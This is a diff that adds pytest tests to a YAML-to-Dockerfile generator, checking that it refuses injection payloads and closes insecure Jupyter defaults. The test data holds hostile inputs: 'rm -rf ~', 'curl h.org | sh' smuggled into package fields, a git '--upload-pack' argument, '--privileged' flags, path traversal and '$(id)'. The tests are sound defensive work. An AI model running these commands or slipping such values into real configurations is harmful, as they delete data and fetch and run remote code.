@@ -350,6 +350,48 @@ def test_options_stay_with_their_own_list(evidence: Evidence) -> None:
     assert second[-2:] == ["--upgrade", "a"]
 
 
+HOLES = {
+    "name": "name: 'a; rm -rf ~'\n",
+    "a host path": "name: a\nvolume: [{host_path: '/x\" --privileged \"', container_path: /y, options: ro}]\n",
+    "a container path": "name: a\nvolume: [{host_path: /x, container_path: '/y:rw --privileged', options: ro}]\n",
+    "options": "name: a\nvolume: [{host_path: /x, container_path: /y, options: 'ro\" --privileged \"'}]\n",
+    "a package": "name: a\nPACKAGES: ['git; curl h.org | sh']\n",
+    "a requirement": "name: a\nPIP: ['x; curl h.org | sh']\n",
+    "a source": "name: a\nsource: [{name: b, repo: 'https://h.org/b; id', build: cmake}]\n",
+    "a source's name": "name: a\nsource: [{name: ../../etc, repo: 'https://h.org/b', build: cmake}]\n",
+    "a source's ref": "name: a\nsource: [{name: b, repo: '--upload-pack=id https://h.org/b', build: cmake}]\n",
+    "a second instruction": 'name: a\ncustom: ["true\\nUSER root"]\n',
+}
+FORMATS = {
+    "paper": ("distro: kinetic\nbuild: catkin_make\n", "packages", "python-packages"),
+    "later": ("base: {ubuntu: 16.04}\n", "apt", "pip3"),
+}
+
+
+@pytest.mark.parametrize("form", FORMATS)
+@pytest.mark.parametrize("hole", HOLES)
+def test_the_holes_of_the_original_are_refused(hole: str, form: str, evidence: Evidence) -> None:
+    """The original wrote each of these into a Dockerfile or a script that then ran it."""
+    head, packages, pip = FORMATS[form]
+    text = head + HOLES[hole].replace("PACKAGES", packages).replace("PIP", pip)
+    with pytest.raises(ConfigurationError) as caught:
+        files(planned(text, evidence))
+    assert all(problem.line for problem in caught.value.problems)
+
+
+@pytest.mark.parametrize("form", ["paper", "later"])
+def test_the_doors_of_the_original_are_shut(form: str, evidence: Evidence) -> None:
+    """JupyterLab had no token and every address, the X cookie every reader, the ignore file replaced the author's."""
+    written = files(planned(OWN[form], evidence))
+    for path, text in written.items():
+        assert not re.search(r"token='?'?$|0\.0\.0\.0:|(?:-p|--publish)[ =]8888|chmod a\+r", text, re.MULTILINE), path
+    assert ".dockerignore" not in written
+    assert "**/.git" in written["Dockerfile.dockerignore"].splitlines()
+    assert "EXPOSE" not in written["Dockerfile"]
+    assert "jupyter" not in [i.text for i in instructions(written["Dockerfile"]) if i.name == "CMD"][-1]
+    assert "JUPYTER_TOKEN" in written["docker_run.sh"]
+
+
 def plain(value: Any) -> Any:
     """Return a plan's data without what tells of the file that it came from: places, reasons, warnings, the format."""
     if isinstance(value, dict):
@@ -371,7 +413,7 @@ def test_a_migrated_file_plans_the_same_image(name: str, evidence: Evidence) -> 
 
 SCALARS: st.SearchStrategy[Any] = st.one_of(
     st.none(), st.booleans(), st.integers(-1, 99_999), st.floats(0, 30, allow_nan=False), st.text(max_size=12),
-    st.sampled_from(["kinetic", "16.04", "8.0-devel", "nvidia", "a; rm -rf ~", "$(id)", "-x", "https://h.org/a", "x\ny"]),
+    st.sampled_from(["kinetic", "16.04", "8.0-devel", "nvidia", "a; rm -rf ~", "$(id)", "-x", "https://h.org", "x\ny"]),
 )  # fmt: skip
 VALUES = st.recursive(
     SCALARS,
